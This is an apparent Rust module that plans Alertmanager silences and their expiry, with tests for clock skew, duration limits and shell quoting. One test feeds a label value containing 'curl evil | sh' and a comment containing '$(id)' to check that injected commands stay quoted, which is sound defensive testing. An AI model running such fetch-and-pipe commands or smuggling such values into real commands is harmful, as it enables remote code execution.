//! Plans about silences, pure: from a fresh read of alerts and silences to what would be sent, and exactly which alerts
//! it would silence.

use jiff::{SignedDuration, Timestamp};

use super::requests::{self, SilenceDraft};
use crate::{
    model::{
        id::ResourceVersion,
        incident::{Alert, IncidentFacts, Matcher, SilenceState, all_match},
        release::duration_words,
        source::Tier,
        text::{Safe, shell_quoted, shell_word},
    },
    ops::{
        basis::{Basis, SilenceBasis, same_matchers},
        goal::Goal,
        intent::{Intent, Verb},
        plan::{Change, Plan, Refusal, Risk, Sending, Target, When},
        subject::{ExpireSubject, SilenceSubject, Subject, alerts_uid},
    },
};

/// Alerts are silent from the next evaluation of their group on.
const SILENT_WITHIN_S: i64 = 90;

/// What a plan is made from besides the facts.
#[derive(Clone, Debug)]
pub struct Terms {
    pub tier: Tier,
    /// Who acts: `createdBy`.
    pub who: String,
    /// How far the server's clock is ahead of ours, where that is known.
    pub ahead: SignedDuration,
    /// No silence lasts longer.
    pub longest: SignedDuration,
}

pub fn plan(intent: &Intent, facts: &IncidentFacts, terms: &Terms) -> Result<Plan, Refusal> {
    // A plan shows what exactly it would silence, and rests on there being no equal silence.
    if let Some(why) = facts.incomplete() {
        return Err(Refusal::unreachable(format!(
            "not everything of it could be read: {why}"
        )));
    }
    match (&intent.target, intent.verb) {
        (Subject::Silence(subject), Verb::Silence) => silence(intent, subject, facts, terms),
        (Subject::Expire(subject), Verb::Expire) => expire(intent, subject, facts, terms),
        _ => Err(Refusal::guard(format!(
            "{} is nothing that an alert manager does to {}",
            intent.verb.title(),
            intent.target
        ))),
    }
}

fn matching<'a>(facts: &'a IncidentFacts, matchers: &[Matcher]) -> Vec<&'a Alert> {
    facts
        .alerts
        .iter()
        .map(|alert| &**alert)
        .filter(|alert| all_match(matchers, &alert.labels) == Some(true))
        .collect()
}

fn words(matchers: &[Matcher]) -> String {
    matchers
        .iter()
        .map(Matcher::words)
        .collect::<Vec<_>>()
        .join(" ")
}

/// The first two, which say what it is about; all of them stand in the request. A title is followed by its outcome in one
/// line, which a silence of seven labels would push off the screen.
fn short_words(matchers: &[Matcher]) -> String {
    match matchers {
        [first, second, rest @ ..] if !rest.is_empty() => {
            let labels = if rest.len() == 1 { "label" } else { "labels" };
            format!(
                "{} {} and {} more {labels}",
                first.words(),
                second.words(),
                rest.len()
            )
        }
        few => words(few),
    }
}

fn one(alert: &Alert) -> String {
    let of: Vec<&str> = ["service", "namespace", "pod", "instance"]
        .into_iter()
        .filter_map(|name| alert.label(name))
        .map(Safe::as_str)
        .collect();
    format!("{} ({})", alert.title(), of.join(" "))
}

fn silence(
    intent: &Intent,
    subject: &SilenceSubject,
    facts: &IncidentFacts,
    terms: &Terms,
) -> Result<Plan, Refusal> {
    if let Some(id) = same_matchers(facts, &subject.matchers) {
        return Err(Refusal::guard(format!(
            "the same silence is in force already: {}",
            &*id.0
        )));
    }
    let lasts = subject.ends_at.duration_since(subject.starts_at);
    if lasts > terms.longest {
        return Err(Refusal::guard(format!(
            "it would last {}, and {} is the most here ([write] silence_hours)",
            duration_words(lasts.as_secs()),
            duration_words(terms.longest.as_secs())
        )));
    }
    // The server's clock decides when it begins and ends. By ours, where it is ahead, the silence would only be pending,
    // and where it is behind, over too soon.
    let theirs = |ours: Timestamp| ours.saturating_add(terms.ahead).unwrap_or(ours);
    let draft = SilenceDraft {
        matchers: subject.matchers.clone(),
        starts_at: theirs(subject.starts_at),
        ends_at: theirs(subject.ends_at),
        created_by: terms.who.clone(),
        comment: subject.comment.clone(),
    };
    let body = requests::body(&draft).map_err(|why| Refusal::guard(why.to_string()))?;
    let shown = matching(facts, &subject.matchers);
    let titles: Vec<String> = shown.iter().map(|alert| one(alert)).collect();
    let mut risks = Vec::new();
    match shown.len() {
        0 => risks.push(Risk::Consequence {
            words: "nothing that it matches fires now: it is for what comes".to_owned(),
        }),
        1 => {}
        count => risks.push(Risk::Consequence {
            words: format!("it silences {count} alerts"),
        }),
    }
    let mut fingerprints: Vec<_> = shown
        .iter()
        .map(|alert| alert.fingerprint.clone())
        .collect();
    fingerprints.sort();
    let for_so_long = duration_words(lasts.as_secs());
    Ok(Plan {
        title: format!("Silence {}", short_words(&subject.matchers)),
        next: match titles.as_slice() {
            [] => format!("whatever it matches is told to nobody for {for_so_long}"),
            titles => format!("told to nobody for {for_so_long}: {}", titles.join("; ")),
        },
        change: Change::Words {
            from: format!("{} told", shown.len()),
            to: format!("silent until {}", time(subject.ends_at)),
        },
        sends: vec![sending("POST", requests::POST.to_owned(), body)],
        same_as: vec![format!(
            "amtool silence add {} --duration={}m --comment={}",
            subject
                .matchers
                .iter()
                .map(|matcher| shell_quoted(&matcher.words()))
                .collect::<Vec<_>>()
                .join(" "),
            lasts.as_mins(),
            shell_quoted(&subject.comment)
        )],
        way_back: "end the silence (m); it ends by itself as well".to_owned(),
        expect: "the silence is active and its alerts are silent".to_owned(),
        goal: Goal::Silenced {
            matchers: subject.matchers.clone(),
            ends_at: draft.ends_at,
        },
        basis: Basis::Silence(Box::new(SilenceBasis::New {
            matchers: subject.matchers.clone(),
            shown: fingerprints,
        })),
        risks,
        ..about(intent, facts, terms)
    })
}

fn expire(
    intent: &Intent,
    subject: &ExpireSubject,
    facts: &IncidentFacts,
    terms: &Terms,
) -> Result<Plan, Refusal> {
    let id = &subject.silence;
    let Some(silence) = facts.silences.iter().find(|silence| silence.id == *id) else {
        return Err(Refusal::not_found(format!(
            "there is no silence {}",
            &*id.0
        )));
    };
    if silence.state == SilenceState::Expired {
        return Err(Refusal::guard("the silence has ended already"));
    }
    let path = requests::path(id)
        .ok_or_else(|| Refusal::guard("its name is none that an alert manager gives"))?;
    let again: Vec<String> = facts
        .alerts
        .iter()
        .filter(|alert| alert.silenced_by == [id.clone()])
        .map(|alert| one(alert))
        .collect();
    Ok(Plan {
        title: format!("End the silence {}", short_words(&silence.matchers)),
        next: if again.is_empty() {
            "nothing that it silences fires now".to_owned()
        } else {
            format!("told again: {}", again.join("; "))
        },
        change: Change::Words {
            from: format!("silent, by {}: {}", &*silence.created_by, &*silence.comment),
            to: "told again".to_owned(),
        },
        sends: vec![sending("DELETE", path, serde_json::Value::Null)],
        same_as: vec![format!("amtool silence expire {}", shell_word(&id.0))],
        way_back: "silence it again: an ended silence does not come back".to_owned(),
        expect: "the silence has ended".to_owned(),
        goal: Goal::SilenceEnded {
            silence: id.clone(),
        },
        basis: Basis::Silence(Box::new(SilenceBasis::End {
            silence: id.clone(),
        })),
        ..about(intent, facts, terms)
    })
}

fn time(at: Timestamp) -> String {
    at.strftime("%Y-%m-%d %H:%MZ").to_string()
}

fn sending(method: &'static str, path: String, body: serde_json::Value) -> Sending {
    Sending {
        says: None,
        method,
        path,
        content_type: "application/json",
        shown: body.clone(),
        body,
        when: When::AtOnce,
        holder_version: None,
        // The server makes a second silence of the same request.
        resends: 0,
    }
}

/// What every plan about silences has in common. The caller fills in the rest.
fn about(intent: &Intent, facts: &IncidentFacts, terms: &Terms) -> Plan {
    Plan {
        intent: intent.clone(),
        target: Target {
            uid: alerts_uid(&facts.environment),
            version: ResourceVersion::new(&format!("read {}", facts.read_at)),
            tier: terms.tier,
            revision: None,
            hash: None,
        },
        title: String::new(),
        next: String::new(),
        change: Change::Words {
            from: String::new(),
            to: String::new(),
        },
        sends: Vec::new(),
        same_as: Vec::new(),
        way_back: String::new(),
        git: None,
        not_undone: Vec::new(),
        skips: None,
        differs: Vec::new(),
        expect: String::new(),
        goal: Goal::Silenced {
            matchers: Vec::new(),
            ends_at: facts.read_at,
        },
        time_s: SILENT_WITHIN_S,
        basis: Basis::Silence(Box::new(SilenceBasis::New {
            matchers: Vec::new(),
            shown: Vec::new(),
        })),
        risks: Vec::new(),
        note: None,
        needs: Vec::new(),
        read_at: facts.read_at,
        serves_after: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ops::intent::Expects;

    fn began() -> Timestamp {
        "2026-11-20T22:00:00Z".parse().unwrap()
    }

    fn for_hours(hours: i64) -> SilenceSubject {
        SilenceSubject {
            environment: "prod".into(),
            matchers: vec![Matcher::equal("service", "x'; curl evil | sh; '")],
            starts_at: began(),
            ends_at: began() + SignedDuration::from_hours(hours),
            comment: "it's $(id) `id` \"".to_owned(),
        }
    }

    /// With a server whose clock is so many seconds ahead of ours.
    fn planned(subject: SilenceSubject, ahead: i64) -> Result<Plan, Refusal> {
        let intent = Intent {
            id: crate::model::id::IntentId::new("t-1"),
            verb: Verb::Silence,
            target: Subject::Silence(subject),
            seen: None,
            to_revision: None,
            expects: Expects::default(),
            reason: None,
        };
        let facts = IncidentFacts {
            environment: "prod".into(),
            read_at: began(),
            alerts: Vec::new(),
            silences: Vec::new(),
            unread: Vec::new(),
            warnings: Vec::new(),
        };
        let terms = Terms {
            tier: Tier::Prod,
            who: "ann".to_owned(),
            ahead: SignedDuration::from_secs(ahead),
            longest: SignedDuration::from_hours(72),
        };
        plan(&intent, &facts, &terms)
    }

    #[test]
    fn a_label_or_a_comment_cannot_leave_its_word_of_the_command() {
        assert_eq!(
            planned(for_hours(1), 0).unwrap().same_as,
            [
                r#"amtool silence add 'service="x'\''; curl evil | sh; '\''"' --duration=60m --comment='it'\''s $(id) `id` "'"#
            ]
        );
    }

    #[test]
    fn it_begins_and_ends_by_the_clock_of_the_server() {
        for (ahead, starts, ends) in [
            (0, "2026-11-20T22:00:00Z", "2026-11-20T23:00:00Z"),
            (90, "2026-11-20T22:01:30Z", "2026-11-20T23:01:30Z"),
            (-90, "2026-11-20T21:58:30Z", "2026-11-20T22:58:30Z"),
        ] {
            let plan = planned(for_hours(1), ahead).unwrap();
            let body = &plan.sends[0].body;
            assert_eq!(
                (&body["startsAt"], &body["endsAt"]),
                (&starts.into(), &ends.into())
            );
            match plan.goal {
                Goal::Silenced { ends_at, .. } => assert_eq!(ends_at.to_string(), ends),
                other => panic!("{other:?}"),
            }
            let Change::Words { to, .. } = plan.change else {
                panic!("no words")
            };
            assert!(
                to.contains("23:00"),
                "people read it by their own clock: {to}"
            );
        }
    }

    #[test]
    fn no_silence_lasts_longer_than_the_configuration_lets_it() {
        assert!(planned(for_hours(72), 0).is_ok());
        let refused = planned(for_hours(73), 0).unwrap_err();
        let why = refused.because.join("; ");
        assert!(why.contains("silence_hours"), "{why}");
    }
}
